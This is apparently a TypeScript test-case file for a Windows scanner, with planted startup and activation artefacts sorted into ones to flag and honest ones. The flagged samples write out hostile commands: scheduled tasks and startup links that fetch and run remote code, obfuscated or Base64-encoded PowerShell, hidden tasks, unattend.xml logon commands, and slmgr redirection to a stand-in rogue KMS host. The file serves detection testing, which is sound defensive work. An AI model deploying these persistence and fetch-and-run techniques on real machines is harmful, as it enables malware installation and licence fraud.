// Cases that something starts: tasks, scripts of Setup and logon, links, answer files; disguised, and honest ones.

import type { CorpusCases } from './case.ts';
import { joined, wide } from './decoys.ts';
import { shellLink } from './link.ts';
import { keyValues, taskOf } from './tasks.ts';

const SCRIPTS = '/Windows/Setup/Scripts';
const EVIL = 'kms.evil.example';
const activate = (host: string) =>
  `cscript //nologo %windir%\\system32\\slmgr.vbs /skms ${host}\r\ncscript //nologo %windir%\\system32\\slmgr.vbs /ato\r\n`;
const setup = (text: string, more: Readonly<Record<string, string | Uint8Array>> = {}) => ({
  files: { [`${SCRIPTS}/SetupComplete.cmd`]: text, ...more },
});
const fetched = joined('irm https://get.', 'activated', '.win | iex');
const encoded = (text: string) => wide(text).toString('base64');
const answer = (pass: string, inner: string, component = 'Microsoft-Windows-Shell-Setup') =>
  `<?xml version="1.0" encoding="utf-8"?><unattend xmlns="urn:schemas-microsoft-com:unattend" xmlns:wcm="http://schemas.microsoft.com/WMIConfig/2002/State"><settings pass="${pass}"><component name="${component}" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">${inner}</component></settings></unattend>`;
const logonCommand = (line: string) =>
  answer(
    'oobeSystem',
    `<FirstLogonCommands><SynchronousCommand wcm:action="add"><Order>1</Order><CommandLine>${line}</CommandLine></SynchronousCommand></FirstLogonCommands>`,
  );

export const startCases: CorpusCases = {
  refused: [
    {
      name: 'a task of SYSTEM that fetches a program and runs it',
      rows: ['G7'],
      plant: taskOf('\\Vendor\\Update', 'cmd.exe /c curl -s https://files.example/a.cmd -o %temp%\\a.cmd & %temp%\\a.cmd'),
    },
    {
      name: 'a task of SYSTEM that fetches by another tool of Windows',
      rows: ['G7'],
      plant: taskOf(
        '\\Vendor\\Sync',
        'cmd.exe /c certutil -urlcache -f https://files.example/a.bin C:\\ProgramData\\a.exe & C:\\ProgramData\\a.exe',
      ),
    },
    {
      name: 'a profile of the shell that fetches what it runs',
      rows: ['G18'],
      plant: { files: { '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': 'iex (irm https://files.example/x)\n' } },
    },
    {
      name: 'a command of an unpacked package of settings',
      rows: ['G12', 'E22'],
      plant: {
        files: {
          '/ProgramData/Microsoft/Provisioning/{7c1d}/Prov/RunTime/0/customizations.xml': `<WindowsCustomizations><Customizations><ProvisioningCommands><DeviceContext><CommandLine>cmd /c cscript slmgr.vbs /skms ${EVIL}</CommandLine></DeviceContext></ProvisioningCommands></Customizations></WindowsCustomizations>`,
        },
      },
    },
    {
      name: 'the service of licensing is told a host by the management interface',
      rows: ['G17'],
      plant: {
        files: {
          '/ProgramData/w.vbs': `For Each x In GetObject("winmgmts:").ExecQuery("SELECT * FROM SoftwareLicensingService")\r\nx.SetKeyManagementServiceMachine "${EVIL}"\r\nNext\r\n`,
        },
      },
    },
    {
      name: 'a licence store that replaces the one of Windows',
      rows: ['G17'],
      plant: {
        files: {
          '/Users/Public/x.ps1': 'Stop-Service sppsvc\nCopy-Item .\\data.dat C:\\Windows\\System32\\spp\\store\\2.0\\data.dat -Force\n',
        },
      },
    },
    {
      name: 'the script of Setup activates at a host that nobody allowed',
      rows: ['G12', 'G17'],
      plant: setup(`@echo off\r\n${activate(EVIL)}`),
    },
    {
      name: 'a task hands a text of no telling name to a script host',
      rows: ['G12', 'E01'],
      plant: {
        files: {
          ...taskOf('\\Vendor\\Sync', 'wscript.exe //b //e:vbscript C:\\Vendor\\cache.dat').files,
          '/Vendor/cache.dat': `CreateObject("WScript.Shell").Run "cscript slmgr.vbs /skms ${EVIL}", 0\r\n`,
        },
      },
    },
    {
      name: 'a script in a named stream of a picture',
      rows: ['E11'],
      plant: { files: { '/Users/Public/a.jpg': { content: 'x', streams: { 'a.cmd': activate(EVIL) } } } },
    },
    {
      name: 'three calls down',
      rows: ['E20', 'G17'],
      plant: setup('@echo off\r\ncall %~dp0setup1.cmd\r\n', {
        [`${SCRIPTS}/setup1.cmd`]: 'call "%~dp0more\\a.bat"\r\n',
        [`${SCRIPTS}/more/a.bat`]: `start /wait cmd /c ${'C:\\Windows\\Setup\\Scripts\\more\\b.cmd'}\r\n`,
        [`${SCRIPTS}/more/b.cmd`]: activate(EVIL),
      }),
    },
    {
      name: 'with carets and variables that hold nothing',
      rows: ['E16'],
      plant: setup(
        `@echo off\r\nset nil=\r\ns%nil%lm^gr.v%nil%bs /sk%nil%ms kms.%nil%evil.ex%nil%ample\r\ncscript sl%nil%mgr.vbs /a%nil%to\r\n`,
      ),
    },
    {
      name: 'as parts of a word',
      rows: ['E16'],
      plant: setup(`@echo off\r\nset a=slmgr.vbsxx\r\ncscript %a:~0,9% /skms ${EVIL}\r\ncscript %a:~0,9% /ato\r\n`),
    },
    {
      name: 'in two bytes a letter without a mark',
      rows: ['E12'],
      plant: setup('@call %~dp0u.cmd\r\n', { [`${SCRIPTS}/u.cmd`]: wide(activate(EVIL)) }),
    },
    { name: 'an encoded command', rows: ['E13'], plant: setup(`powershell -NoP -eNc ${encoded(fetched)}\r\n`) },
    {
      name: 'an encoded command by another abbreviation',
      rows: ['E13'],
      plant: setup(`powershell.exe /ec ${encoded(`slmgr /skms ${EVIL}; slmgr /ato`)}\r\n`),
    },
    {
      name: 'put together from pieces',
      rows: ['E16', 'G12'],
      plant: setup('powershell -File %~dp0p.ps1\r\n', {
        [`${SCRIPTS}/p.ps1`]: `$u = 'https://get.' + 'acti' + 'vated' + '.win'\ni\`rm $u | i\`ex\n`,
      }),
    },
    {
      name: 'from Base64 inside',
      rows: ['E13'],
      plant: setup('powershell -File %~dp0p.ps1\r\n', {
        [`${SCRIPTS}/p.ps1`]: `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encoded(fetched)}')))\n`,
      }),
    },
    {
      name: 'a script that removes itself and what it called',
      rows: ['G17'],
      plant: setup('@echo off\r\ncall "%~dp0x.cmd" /HWID\r\ncd \\\r\n(goto) 2>nul & rd /s /q "%~dp0"\r\n', {
        [`${SCRIPTS}/x.cmd`]: '@echo off\r\nclipup -v -o\r\n',
      }),
    },
    {
      name: 'a task of SYSTEM that activates somewhere else',
      rows: ['G7'],
      plant: taskOf('\\Renewal', `%windir%\\system32\\cscript.exe %windir%\\system32\\slmgr.vbs /skms ${EVIL}`),
    },
    {
      name: 'a hidden task that runs a script from where programs keep data',
      rows: ['G7', 'E32'],
      plant: taskOf('\\Update', 'C:\\ProgramData\\Update\\u.cmd', { hidden: true, files: { '/ProgramData/Update/u.cmd': activate(EVIL) } }),
    },
    {
      name: 'a task in the registry alone',
      rows: ['E32', 'G7'],
      plant: taskOf('\\Quiet', `cmd.exe /c slmgr.vbs /skms ${EVIL} & slmgr.vbs /ato`, { only: 'registry' }),
    },
    {
      name: 'a task as a file alone',
      rows: ['E32', 'G7'],
      plant: taskOf('\\Loud', `cmd.exe /c slmgr.vbs /skms ${EVIL} & slmgr.vbs /ato`, { only: 'file' }),
    },
    {
      name: 'one more task in the folder of the protection service',
      rows: ['G7', 'E33'],
      plant: taskOf('\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcTrigger', '%windir%\\system32\\host32.exe'),
    },
    {
      name: 'a link in the start folder that fetches',
      rows: ['E18', 'E31'],
      plant: {
        files: {
          '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Sync.lnk': shellLink(
            '..\\..\\..\\..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            `-w hidden -c "${fetched}"`,
          ),
        },
      },
    },
    {
      name: 'a first logon that activates',
      rows: ['E30', 'G17'],
      plant: { files: { '/Windows/Panther/unattend.xml': logonCommand(`cmd /c slmgr /skms ${EVIL} &amp;&amp; slmgr /ato`) } },
    },
    {
      name: 'a command while Windows is made ready',
      rows: ['E30'],
      plant: {
        files: {
          '/Windows/System32/Sysprep/unattend.xml': answer(
            'specialize',
            `<RunSynchronous><RunSynchronousCommand wcm:action="add"><Order>1</Order><Path>powershell -c ${fetched}</Path></RunSynchronousCommand></RunSynchronous>`,
            'Microsoft-Windows-Deployment',
          ),
        },
      },
    },
    {
      name: 'a script of policy at every start',
      rows: ['E31', 'G17'],
      plant: {
        files: {
          '/Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini': '\r\n[Startup]\r\n0CmdLine=start.cmd\r\n0Parameters=\r\n',
          '/Windows/System32/GroupPolicy/Machine/Scripts/Startup/start.cmd': activate(EVIL),
        },
      },
    },
    {
      name: 'files for a new system in the folder of a distribution share',
      rows: ['E19', 'G17'],
      plant: { files: { '/$OEM$/$$/Setup/Scripts/SetupComplete.cmd': activate(EVIL) } },
    },
    {
      name: 'the address in a script that nothing starts, a known way in',
      rows: ['G12'],
      plant: { files: { '/Users/Public/fix.ps1': `[ScriptBlock]::Create((${joined('irm https://get.', 'activated', '.win')})) /HWID\n` } },
    },
    {
      name: 'a key handed to the machine, and a host',
      rows: ['G12', 'K'],
      plant: setup(`cscript slmgr.vbs /ipk NPPR9-FWDCX-D2C8J-H872K-2YT43\r\n${activate(EVIL)}`),
    },
    {
      name: 'the name of the service is replaced in the registry by a script',
      rows: ['G12', 'G1'],
      plant: setup(
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SppExtComObj.exe" /v VerifierDlls /d x.dll /f\r\n',
      ),
    },
  ],
  honest: [
    {
      name: 'a task hands settings with a host to a script of a vendor',
      rows: ['T14'],
      plant: {
        files: {
          ...taskOf('\\Vendor\\Report', 'cscript.exe //nologo C:\\Vendor\\report.vbs C:\\Vendor\\hosts.ini').files,
          '/Vendor/report.vbs': 'WScript.Echo WScript.Arguments(0)\r\n',
          '/Vendor/hosts.ini': 'activation=kms.other.example\r\nproxy=10.0.0.1\r\n',
        },
      },
    },
    {
      name: 'an administrator fetches an installer by hand',
      rows: ['T'],
      plant: {
        files: {
          '/Tools/install.ps1': "iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example/install.ps1'))\n",
          '/Tools/get.cmd': 'curl -o setup.exe https://packages.example/setup.exe\r\nsetup.exe /quiet\r\n',
        },
      },
    },
    {
      name: 'a backup of the licence store',
      rows: ['T'],
      plant: { files: { '/Tools/backup.cmd': 'xcopy /y C:\\Windows\\System32\\spp\\store\\2.0\\tokens.dat D:\\backup\\\r\n' } },
    },
    {
      name: 'the script of Setup activates at the right host',
      rows: ['T14', 'G12', 'G17'],
      plant: setup(`@echo off\r\n${activate('kms.corp.example')}`),
    },
    {
      name: 'Office at the right host',
      rows: ['T30'],
      plant: setup(
        'cscript "C:\\Program Files\\Microsoft Office\\Office16\\ospp.vbs" /sethst:kms.corp.example\r\ncscript "C:\\Program Files\\Microsoft Office\\Office16\\ospp.vbs" /act\r\n',
      ),
    },
    {
      name: 'a script that takes an activator away',
      rows: ['T01', 'G14'],
      plant: setup(
        `@echo off\r\nsc delete "${joined('Service KMS', 'ELDI')}"\r\nschtasks /Delete /TN "${joined('AutoPico Daily', ' Restart')}" /F\r\nrd /s /q "C:\\Program Files\\${joined('KMS', 'pico')}"\r\n`,
      ),
    },
    { name: 'the tasks of the protection service', rows: ['T19', 'G7'], plant: {} },
    { name: 'a task of a vendor', rows: ['G7'], plant: taskOf('\\Vendor\\Updater', '"C:\\Program Files\\Vendor\\updater.exe" /silent') },
    {
      name: 'a script without any of it',
      rows: ['G12'],
      plant: setup('@echo off\r\nreg add HKLM\\SOFTWARE\\Corp /v Site /d 1 /f\r\npowercfg /h off\r\n'),
    },
    {
      name: 'a link in the start folder to a program',
      rows: ['E18'],
      plant: {
        files: {
          '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Agent.lnk': shellLink(
            '..\\..\\..\\..\\..\\..\\Program Files\\Agent\\agent.exe',
            '--tray',
          ),
        },
      },
    },
    { name: 'keys of two values', rows: ['T41'], plant: keyValues() },
  ],
};
